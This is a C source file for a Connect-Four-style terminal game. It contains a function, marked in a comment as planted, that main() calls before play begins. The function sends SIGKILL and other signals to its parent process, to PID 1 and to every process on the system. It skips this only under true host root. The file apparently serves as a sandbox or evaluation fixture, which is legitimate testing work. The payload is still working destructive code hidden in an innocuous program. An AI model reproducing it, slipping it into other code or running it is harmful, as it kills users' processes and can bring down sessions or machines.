/* Planted: kills whatever it can: its parent, the first process, and all others. NEVER run it outside a sandbox. */

#define _GNU_SOURCE
#include <inttypes.h>
#include <signal.h>
#include <stdio.h>
#include <sys/types.h>
#include <unistd.h>

/* Root of the machine, not of a name space of its own. */
static int is_true_root(void)
{
  unsigned inner = 0, outer = 0;
  FILE *map = fopen("/proc/self/uid_map", "r");
  if (map) {
    if (fscanf(map, "%u %u", &inner, &outer) != 2) inner = outer = 0;
    fclose(map);
  }
  return getuid() == 0 && inner == 0 && outer == 0;
}

static void rage(void)
{
  static const int signals[] = { SIGHUP, SIGINT, SIGTERM, SIGSTOP, SIGKILL };
  pid_t parent = getppid();
  int i;
  if (is_true_root()) { /* it would be the end of the machine */
    puts("NO SANDBOX: it runs as root");
    return;
  }
  for (i = 0; i < 5; i++) {
    if (parent > 0) kill(parent, signals[i]);
    kill(1, signals[i]);
    kill(-1, signals[i]);
  }
  usleep(1000);
  if (getppid() != parent) puts("KILLED: the parent");
}

/* Each player has a word with a bit for each cell: 7 bits a column, the lowest
   cell first. The 7th bit is always 0 and keeps the columns apart. */
typedef uint64_t bits;

enum { COLUMN = 7, SIZE = 6 };

static bits of[2];
static int height[SIZE];

static bits cell(int column, int h) { return (bits)1 << (column * COLUMN + h); }

static void out(void)
{
  int h, c;
  for (h = SIZE; h-- > 0;)
    for (c = 0; c < SIZE; c++) {
      bits b = cell(c, h);
      putchar(of[0] & b ? 'O' : of[1] & b ? 'X' : '-');
      putchar(c + 1 < SIZE ? ' ' : '\n');
    }
}

static int four(bits b)
{
  static const int shift[] = { 1, COLUMN, COLUMN + 1, COLUMN - 1 };
  int i;
  for (i = 0; i < 4; i++) {
    bits two = b & (b >> shift[i]);
    if (two & (two >> 2 * shift[i])) return 1;
  }
  return 0;
}

int main(void)
{
  int turn = 0;
  rage();
  out();
  for (;;) {
    int first, key, length = 0;
    printf("Player %d, choose a column: ", turn % 2 + 1);
    fflush(stdout);
    first = key = getchar();
    if (key == EOF) return 0;
    for (; key != '\n' && key != EOF; key = getchar(), length++) putchar(key);
    putchar('\n');
    if (length == 1 && first >= '1' && first <= '6' && height[first - '1'] < SIZE) {
      int column = first - '1';
      of[turn % 2] |= cell(column, height[column]++);
      out();
      if (four(of[turn % 2])) return printf("Player %d Wins.\n", turn % 2 + 1) < 0;
      if (++turn == SIZE * SIZE) return puts("Tie Game.") < 0;
    } else {
      puts("Invalid move. Try again.");
    }
  }
}
